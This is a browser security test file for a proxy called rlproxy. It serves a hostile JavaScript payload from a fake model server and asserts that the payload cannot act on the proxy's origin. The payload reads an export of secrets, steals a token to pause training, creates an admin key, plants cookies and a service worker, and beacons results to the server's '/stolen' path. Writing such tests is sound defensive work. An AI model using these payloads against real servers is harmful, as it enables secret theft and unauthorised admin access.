"""Web pages of a model server in real Chromium: opened through rlproxy, none reads, makes or does anything there."""

from __future__ import annotations

import asyncio
import contextlib
import shutil
from collections.abc import AsyncIterator

import pytest
from playwright.async_api import Browser, Page, async_playwright
from playwright.async_api import Error as PlaywrightError

from scripts.fakes.hostile import HostileServer
from scripts.harness.in_process import Proxy

pytestmark = pytest.mark.browser
# It notes what it could do in its own title and at its own server: what a person has, who is an admin here, loses.
SCRIPT = """
(async () => {
  const done = ["ran"];
  const attempt = async (name, act) => { try { if (await act()) done.push(name); } catch (error) {} };
  await attempt("export", async () => (await (await fetch("/rl/export")).text()).includes("a secret"));
  await attempt("token", async () => {
    const token = (await (await fetch("/")).text()).match(/x-rl-token": "([^"]+)"/)[1];
    return (await fetch("/page/training/pause", {method: "POST", headers: {"x-rl-token": token}})).ok;
  });
  await attempt("key", async () => (await fetch("/rl/keys",
    {method: "POST", body: JSON.stringify({name: "eve", role: "admin"})})).status === 201);
  await attempt("worker", async () => !!(await navigator.serviceWorker.register("/v1/worker.js")));
  await attempt("cookie", async () => { document.cookie = "rl_eve=1"; return document.cookie.includes("eve"); });
  await attempt("storage", async () => { localStorage.eve = 1; return localStorage.eve === "1"; });
  document.title = done.join(" ");
  navigator.sendBeacon("%s/stolen", done.join(" "));
})();
"""
HTML = """<!doctype html><title>quiet</title><meta http-equiv=refresh content="5; url=/rl/export">
<img src="/rl/export"><script>%s</script>"""
FORM = """<!doctype html><title>quiet</title><form method=post action="/rl/pause" id=f></form>
<script>document.getElementById("f").submit(); "%s"</script>"""
SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[%s]]></script></svg>'
XHTML = (
    '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>quiet</title></head><body><script><![CDATA[%s]]></script>'
    "</body></html>"
)
PARTS = "--a\r\ncontent-type: text/html\r\nset-cookie: rl_eve=1\r\n\r\n%s\r\n--a--\r\n"
KINDS = {
    "text/html": HTML,
    "text/html; charset=utf-8": HTML,
    "application/json, text/html": HTML,
    "image/svg+xml": SVG,
    "application/xhtml+xml": XHTML,
    "multipart/x-mixed-replace; boundary=a": PARTS % HTML,
    "text/plain": HTML,
    "image/png": HTML,
    "": HTML,
    "text/html;form": FORM,
}
ACTING = (
    "service-worker-allowed: /", "set-cookie: rl_eve=1; path=/", "access-control-allow-origin: *",
    "content-security-policy: default-src * 'unsafe-inline'", "x-content-type-options: none",
)  # fmt: skip


@pytest.fixture
async def browser() -> AsyncIterator[Browser]:
    chromium = shutil.which("chromium")
    assert chromium, "scripts/test_browser installs it"
    async with async_playwright() as playwright:
        started = await playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        yield started
        await started.close()


@pytest.fixture
async def model_server() -> AsyncIterator[HostileServer]:
    server = HostileServer()
    await server.start()
    yield server
    await server.stop()


async def opened(page: Page, url: str) -> str:
    """The title of what is there, once it has had time to do what it does; empty where it is saved and not shown."""
    with contextlib.suppress(PlaywrightError):
        await page.goto(url, wait_until="commit")
        await asyncio.sleep(0.5)
        return await page.title()
    return ""


@pytest.mark.parametrize("path", ["/v1/page", "/s/a/v1/page", "/api/page"])
@pytest.mark.parametrize("kind", KINDS)
async def test_a_page_of_the_model_server_does_nothing_on_our_origin(
    browser: Browser, proxy: Proxy, model_server: HostileServer, kind: str, path: str
) -> None:
    await proxy.chat("a secret")
    await proxy.stop()
    await proxy.start(backend__url=model_server.url, backend__model="m")
    model_server.body = (KINDS[kind].replace("%s", SCRIPT) % model_server.url).encode()
    model_server.head = (f"content-type: {kind}",) if kind else ()
    context = await browser.new_context()
    page = await context.new_page()
    await opened(page, model_server.url + path)
    if kind in ("text/html", "application/json, text/html", "image/svg+xml", "application/xhtml+xml"):
        await page.wait_for_function("document.title.startsWith('ran')")  # it would do it
    before = len([one for one in model_server.requests if "stolen" in one])
    model_server.head = (*model_server.head, *ACTING)
    title = await opened(page, proxy.url + path)
    assert not title.startswith("ran"), title
    assert await context.cookies(proxy.url) == []
    assert len([one for one in model_server.requests if "stolen" in one]) == before
    assert await proxy.store.keys.all() == []
    assert (await proxy.get("/rl/status"))["training"]["paused"] is False
    await context.close()


async def test_our_own_page_runs_no_script_of_the_model_server(
    browser: Browser, proxy: Proxy, model_server: HostileServer
) -> None:
    """Its policy allows scripts of this origin, so an answer of the backend must not be one."""
    await proxy.stop()
    await proxy.start(backend__url=model_server.url, backend__model="m")
    model_server.body, model_server.head = b"document.title = 'ran'", ("content-type: text/javascript",)
    page = await (await browser.new_context()).new_page()
    await page.goto(proxy.url)
    await page.evaluate(
        "new Promise(end => { const tag = document.createElement('script'); tag.src = '/v1/x.js';"
        " tag.onload = tag.onerror = end; document.head.append(tag); })"
    )
    assert await page.title() != "ran"
    assert "GET /v1/x.js" in model_server.requests
